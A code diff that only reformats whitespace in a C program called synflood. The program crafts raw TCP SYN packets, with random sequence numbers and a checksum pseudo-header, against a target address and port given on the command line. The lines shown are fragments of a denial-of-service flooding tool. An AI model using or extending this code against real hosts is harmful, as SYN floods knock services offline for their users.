@@ -49,9 +49,9 @@ static int synflood_source(const struct sockaddr_in *dst, struct in_addr *src)
 	struct sockaddr_in local;
 	socklen_t len = sizeof local;
 	int rc = fd >= 0 && connect(fd, (const struct sockaddr *)dst, sizeof *dst) == 0 &&
-			 getsockname(fd, (struct sockaddr *)&local, &len) == 0
-		 ? 0
-		 : -1;
+				 getsockname(fd, (struct sockaddr *)&local, &len) == 0
+			 ? 0
+			 : -1;
 	if (fd >= 0)
 		close(fd);
 	*src = local.sin_addr;
@@ -66,8 +66,7 @@ int main(int argc, char **argv)
 	}
 	struct sockaddr_in dst = {.sin_family = AF_INET};
 	long port = strtol(argv[2], NULL, 10), count = strtol(argv[3], NULL, 10);
-	if (inet_pton(AF_INET, argv[1], &dst.sin_addr) != 1 || port < 1 || port > 65535 || count < 1 ||
-	    count > 60000) {
+	if (inet_pton(AF_INET, argv[1], &dst.sin_addr) != 1 || port < 1 || port > 65535 || count < 1 || count > 60000) {
 		fputs("synflood: bad address, port or count (at most 60000)\n", stderr);
 		return 1;
 	}
@@ -88,7 +87,7 @@ int main(int argc, char **argv)
 		synflood_put16(tcp + 2, (uint16_t)port);
 		synflood_put32(tcp + 4, (uint32_t)random());
 		tcp[12] = 5 << 4; /* 20-byte header, no options */
-		tcp[13] = 0x02;   /* SYN */
+		tcp[13] = 0x02;	  /* SYN */
 		synflood_put16(tcp + 14, 64240);
 		memcpy(pseudo, &src, 4);
 		memcpy(pseudo + 4, &dst.sin_addr, 4);
